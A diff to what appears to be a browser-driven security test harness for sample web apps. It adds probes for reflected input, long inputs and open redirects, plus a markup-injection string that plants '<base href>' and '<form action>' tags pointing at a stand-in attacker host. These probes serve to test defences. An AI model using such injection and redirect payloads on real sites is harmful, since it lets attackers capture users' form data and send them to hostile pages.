@@ -64,11 +64,13 @@ MARKUP = """message => {
 
 OBEYED = """async ([message, email]) => {
   const token = document.querySelector("[name=csrf_token]")?.value ?? ""
+  const long = message + "\\nSee https://shop.test/\\n" + "and more, ".repeat(400)
   const forms = [{email, message: "Hello"}, {email, message: ""}, {email: "", message}, {message},
-    {email: email.split("@")[0], message}]
+    {email: email.split("@")[0], message}, {email: "ann@mail.test", message: long}]
   const asked = forms.map(form => ["/contact", {
     method: "POST", body: new URLSearchParams({...form, csrf_token: token})}])
-  asked.push(["/contact?" + new URLSearchParams({email, message}), {}])
+  const other = {error: message, name: message, q: message, subject: message, sent: message}
+  asked.push(["/contact?" + new URLSearchParams({...other, email, message}), {}])
   for (const [url, how] of asked) try {
     const answer = await fetch(url, how)
     if (!answer.headers.get("content-type").startsWith("text/html")) continue
@@ -124,7 +126,7 @@ def _club(page: Page) -> dict[str, list[bool]]:
         key: [] for key in ("script", "sent", "base", "stolen", "injected")
     }
     words = f"<base href={EVIL}><form action={EVIL} method=post>"
-    for path in ("/login?note=", "/"):
+    for path in ("/login?note=", "/", f"/{'long' * 100}", f"/login?from={EVIL}&ok={EVIL}&note="):
         named = _named(page.goto(f"{CLUB}{path}words"), CLUB)
         seen["script"].append(page.title() == "Club")
         seen["sent"].append(_sends(page, "form"))
@@ -192,7 +194,8 @@ def payment(app: Any) -> dict[str, bool]:
 def _shop(page: Page) -> dict[str, list[bool]]:
     alike = ["/checkout-help", "/help/checkout", "/checkout/", "/CHECKOUT"]
     asking = [f"/account?{each}" for each in ("to=/checkout", "next=/checkout", "street=x")]
-    paths = ["/account", "/", "/no-such-page", *alike, *asking]
+    asking += [f"/account?from={each}" for each in ("news", "pay.test", "evil.test", EVIL)]
+    paths = ["/account", "/", "/no-such-page", "/static/none", *alike, *asking]
     seen = _attacked(page, SHOP, paths, [EVIL, f"{PAY}/"])
     seen["sent"] = seen["own"][:1]
     for key, more in _attacked(page, SHOP, ["/checkout"], [EVIL]).items():
